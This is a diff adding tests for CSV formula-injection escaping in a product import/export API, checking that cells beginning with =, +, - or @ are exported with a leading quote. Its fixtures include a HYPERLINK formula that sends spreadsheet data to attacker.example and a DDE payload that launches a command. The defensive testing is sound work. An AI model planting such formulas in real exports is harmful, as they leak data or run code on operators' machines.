@@ -222,3 +222,72 @@ describe('CSV import of products', () => {
     expect(imports.at(-1)).toMatchObject({ actor: { userId: admin.userId }, after: { productsCreated: 1000 } });
   });
 });
+
+describe('CSV cells a spreadsheet would run as formulas', () => {
+  /** What a seller might type to make an operator's spreadsheet run something. */
+  const formulas = {
+    title_en: '=HYPERLINK("https://attacker.example/?d="&A1,"Seeds")',
+    brand_en: "+cmd|' /C calc'!A0",
+    description_en: '-2+3',
+    application_en: '@SUM(A1:A9)',
+    features_en: "'=already quoted once",
+  } satisfies Partial<Record<ProductCsvColumn, string>>;
+
+  async function exportedRecordOf(title: string): Promise<{ csv: string; cells: Record<ProductCsvColumn, string> }> {
+    const exported = await t.app.inject({ method: 'GET', url: api('/products/export.csv'), headers: admin.headers });
+    const [header, ...records] = parse(exported.body) as string[][];
+    const record = records.find((r) => r[header!.indexOf('title_en')] === `'${title}`)!;
+    expect(record, 'the product is in the export').toBeDefined();
+    const cells = Object.fromEntries(header!.map((name, i) => [name, record[i]!])) as Record<ProductCsvColumn, string>;
+    return { csv: exported.body, cells };
+  }
+
+  beforeAll(async () => {
+    const created = await importCsv(
+      // A text that itself starts with a quote before `=` is written in a CSV with one more quote.
+      newProductsCsv(1, (_i, cells) =>
+        Object.assign(cells, { product_ref: 'formulas' }, formulas, { features_en: `'${formulas.features_en}` }),
+      ),
+      false,
+    );
+    expect(created.statusCode, created.body).toBe(200);
+  });
+
+  it('the export writes each with a single quote in front, so it shows as text', async () => {
+    const { cells } = await exportedRecordOf(formulas.title_en);
+    expect(cells.title_en).toBe(`'${formulas.title_en}`);
+    expect(cells.brand_en).toBe(`'${formulas.brand_en}`);
+    expect(cells.description_en).toBe(`'${formulas.description_en}`);
+    expect(cells.application_en).toBe(`'${formulas.application_en}`);
+    expect(cells.features_en).toBe(`'${formulas.features_en}`);
+    // Numbers are never negative: a price is written as the number it is.
+    expect(cells.price).toBe('499.50');
+  });
+
+  it('the export imports back unchanged, every text exactly as the seller wrote it', async () => {
+    const { csv, cells } = await exportedRecordOf(formulas.title_en);
+    const again = await importCsv(csv, false);
+    expect(again.statusCode, again.body).toBe(200);
+    expect(productImportResponse.parse(again.json()).data).toMatchObject({ productsUpdated: 0, variantsUpdated: 0 });
+    const product = await t.app.inject({ method: 'GET', url: `/api/eproduct/${cells.product_id}` });
+    const data = product.json().data as Record<string, { en: string }>;
+    expect(data.title!.en).toBe(formulas.title_en);
+    expect(data.brand!.en).toBe(formulas.brand_en);
+    expect(data.description!.en).toBe(formulas.description_en);
+    expect(data.application!.en).toBe(formulas.application_en);
+    expect(data.features!.en).toBe(formulas.features_en);
+  });
+
+  it('a quoted negative number in a numeric column is refused as the negative number it is', async () => {
+    const response = await importCsv(
+      newProductsCsv(1, (_i, cells) =>
+        Object.assign(cells, { product_ref: 'negative', price: "'-5", inventory: "'-1" }),
+      ),
+      true,
+    );
+    expect(productImportResponse.parse(response.json()).data.errors).toEqual([
+      { row: 2, column: 'price', message: messages.adminCsvRupees },
+      { row: 2, column: 'inventory', message: messages.adminInventoryInvalid },
+    ]);
+  });
+});
